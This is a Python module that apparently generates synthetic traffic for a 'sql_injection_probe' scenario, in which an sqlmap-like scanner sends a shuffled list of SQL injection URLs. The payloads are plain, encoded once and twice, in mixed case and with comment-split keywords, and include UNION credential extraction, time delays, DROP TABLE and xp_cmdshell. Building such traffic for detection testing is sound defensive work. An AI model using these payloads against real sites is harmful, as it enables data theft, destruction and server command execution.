"""A scanner puts SQL into paths and queries, in many disguises."""

from collections.abc import Sequence

from traffic import addresses, user_agents
from traffic.chance import chance
from traffic.people import Person
from traffic.scenario import Scenario
from traffic.visit import Visit
from traffic.visitor import Visitor

SLUG = "sql_injection_probe"

PLAIN = (
    "/?id=1'+OR+'1'='1",
    "/?id=1')+OR+('1'='1",
    "/?id=1+ORDER+BY+10--",
    "/?id=1'||pg_sleep(5)--",
    "/login?user=admin'--",
    "/login?next=/account';SELECT+pg_sleep(5)--",
    "/account?id=1;DROP+TABLE+users--",
    "/account?id=1+AND+SLEEP(5)",
    "/search?q=1+UNION+ALL+SELECT+NULL,NULL,NULL--",
    "/search?q=1+UNION+SELECT+table_name+FROM+information_schema.tables",
    "/search?q=';+EXEC+xp_cmdshell('whoami')--",
    "/?id=1+AND+1=(SELECT+COUNT(*)+FROM+sqlite_master)",
)
PERCENT_ENCODED = (
    "/?id=1%27%20OR%201%3D1--%20-",
    "/login?next=%27%20or%20%271%27%3d%271",
    "/search?q=1%27%0aunion%09select%0dusername%2cpassword%20from%20users--",
    "/account?id=1%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--",
    "/account/1%27%20OR%20%271%27=%271",
    "/search/1'%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--",
)
DOUBLE_ENCODED = (
    "/?id=1%2527%2520OR%25201%253D1--",
    "/search?q=%2527%2520UNION%2520SELECT%2520sql%2520FROM%2520sqlite_master--",
    "/login?user=admin%2527%252d%252d",
)
MIXED_CASE = (
    "/search?q=1%20UnIoN%20SeLeCt%20username,password%20FrOm%20users",
    "/?id=1'+aNd+BeNcHmArK(5000000,MD5(1))--",
)
COMMENTS_IN_KEYWORDS = (
    "/search?q=1/**/UNION/**/SELECT/**/1,2,3",
    "/search?q=1%2F*!50000UNION*%2F+%2F*!50000SELECT*%2F+1,2",
    "/?id=-1'+uni/**/on+sel/**/ect+1,2,3--",
)
PAYLOADS = PLAIN + PERCENT_ENCODED + DOUBLE_ENCODED + MIXED_CASE + COMMENTS_IN_KEYWORDS


def scenario(seed: int, people: Sequence[Person]) -> Scenario:
    """Needs no people: the scanner never signs in."""
    dice = chance(SLUG, seed)
    attacker = Visitor(
        key=SLUG,
        address=str(addresses.attacker_block(4)[dice.randrange(1, 31)]),
        user_agent=user_agents.SQLMAP,
    )
    visit = Visit(attacker, 0.0, dice)
    for path in ("/", "/login", "/account"):
        visit.get(path, (0.5, 2.0))
    for path in dice.sample(PAYLOADS, len(PAYLOADS)):
        visit.get(path, (4.0, 12.0))
    return Scenario(
        slug=SLUG,
        intent="attack",
        description="A scanner sends SQL in paths and queries: plain, encoded once and twice, in "
        "mixed case, with comments in keywords.",
        visitors=(attacker,),
        actions=tuple(visit.actions),
        sources=(attacker.address,),
    )
